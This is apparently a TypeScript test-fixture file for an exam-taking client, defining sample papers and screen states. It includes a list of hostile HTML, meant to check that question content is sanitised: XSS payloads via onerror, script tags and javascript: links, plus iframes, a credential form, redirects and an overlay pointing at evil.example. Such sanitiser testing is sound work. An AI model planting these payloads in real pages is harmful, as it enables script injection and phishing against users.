import type { MediaFile, Paper } from '@examhall/shared/items';
import { everyTypePaper, samplePaper } from '@examhall/shared/testing';
import type { ClientState } from '../../src/bridge/index.js';
import { clientState } from '../../test/support/client-states.js';

const PIXEL =
  'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==';

export const media: MediaFile[] = [{ id: 'dot', mediaType: 'image/png', data: PIXEL }];

/** What an author with bad intentions would write. */
const HOSTILE = [
  '<p>Look <b>closely</b>.</p>',
  '<img src="media:dot" alt="a dot">',
  '<img src="https://evil.example/spy.png" alt="a stranger" onerror="window.hacked = 1">',
  '<script>window.hacked = 1</script>',
  '<a href="javascript:window.hacked = 1" onclick="window.hacked = 1">a link</a>',
  '<iframe src="https://evil.example/"></iframe>',
  '<form action="https://evil.example/"><input name="stolen"></form>',
  '<style>@import "https://evil.example/style.css";</style>',
  '<svg><script>window.hacked = 1</script></svg>',
  '<p style="background:url(https://evil.example/back.png)">Styled</p>',
  '<p style="position:fixed;inset:0;z-index:9999" class="exam-header">Covers the page</p>',
  '<audio src="https://evil.example/noise.mp3" autoplay></audio>',
  '<video src="media:dot" autoplay onloadstart="window.hacked = 1"><track src="https://evil.example/t.vtt"></video>',
  '<math><mi xlink:href="javascript:window.hacked = 1">x</mi></math>',
  '<template><img src=x onerror="window.hacked = 1"></template>',
  '<meta http-equiv="refresh" content="0;url=https://evil.example/"><base href="https://evil.example/">',
  '<object data="https://evil.example/"></object><embed src="https://evil.example/">',
  `<table><tr>${'<td>wide</td>'.repeat(300)}</tr></table>`,
].join('');

/** The sample paper of every item type, and one question more with a picture, a formula and hostile text. */
export const paper: Paper = {
  ...samplePaper,
  media: [{ id: 'dot', mediaType: 'image/png', bytes: Buffer.from(PIXEL, 'base64').length }],
  sections: [
    ...samplePaper.sections,
    {
      id: 's3',
      title: 'With a picture',
      items: [
        {
          type: 'single-choice',
          id: 'picture',
          prompt: `${HOSTILE}<p>Solve \\(x^2 = 4\\).</p>`,
          marks: '1',
          subject: '',
          options: [
            { id: 'a', text: '\\(x = 2\\) <img src=x onerror="window.hacked = 1">' },
            { id: 'b', text: 'Nothing' },
          ],
        },
      ],
    },
  ],
};

/** One question of every type there is. */
export const everyType = {
  paper: { ...everyTypePaper, media: [{ id: 'map', mediaType: 'image/png', bytes: 70 }] },
  media: [{ id: 'map', mediaType: 'image/png', data: PIXEL }],
};

const uuid = (last: number) => `00000000-0000-4000-8000-${String(last).padStart(12, '0')}`;
export const MINUTE_MS = 60_000;

const sitting = (number: number, title: string) => ({
  id: uuid(number),
  title,
  opensAt: '2026-05-04T08:00:00.000Z',
  closesAt: '2026-05-04T12:00:00.000Z',
  durationMinutes: 60,
  clientVersion: null,
  honourStatement: '',
});

/** A station where nobody has signed in. */
export const atSignIn = clientState({ sittings: [sitting(1, 'Science, morning')] });
export const twoSittings = [sitting(1, 'Science, morning'), sitting(2, 'Science, afternoon')];

export const attempt: NonNullable<ClientState['attempt']> = {
  id: uuid(10),
  responses: {},
  saved: {},
  flagged: [],
  viewed: [],
  currentItemId: null,
  deadline: '2026-05-04T10:00:00.000Z',
  remainingMs: 60 * MINUTE_MS,
  sections: [],
  rest: null,
  plays: {},
  resumed: false,
  locked: null,
  pausedSince: null,
  warning: null,
  messages: [],
};

export const atConfirm: ClientState = {
  ...atSignIn,
  screen: 'confirm',
  candidate: { number: '1001', name: 'First candidate' },
  sitting: {
    id: uuid(1),
    title: 'Science, morning',
    durationMinutes: 60,
    instructions: '',
    honourStatement: '',
    opensInMs: 0,
  },
};
export const inExam: ClientState = { ...atConfirm, screen: 'exam', attempt };

export const handedIn: Partial<ClientState> = {
  screen: 'receipt',
  mayLeave: true,
  receiptText: 'EXAMHALL:AEAA2345',
  receipt: {
    receipt: {
      format: 'examhall-receipt-v1',
      submissionId: 'abcdef01-0000-4000-8000-000000000020',
      attemptId: attempt.id,
      candidateNumber: '1001',
      entries: 9,
      sealHash: '0123456789abcdef'.repeat(4),
      receivedAt: '2026-05-04T09:58:00.000Z',
    },
    signature: 'c2lnbmF0dXJl',
  },
  provisionalGrade: {
    graderVersion: '2',
    packageId: 'package',
    packageVersion: 1,
    keyVersion: '1',
    rulesVersion: '1',
    marks: '21',
    maxMarks: '30',
    pendingItems: 2,
    items: [],
  },
};
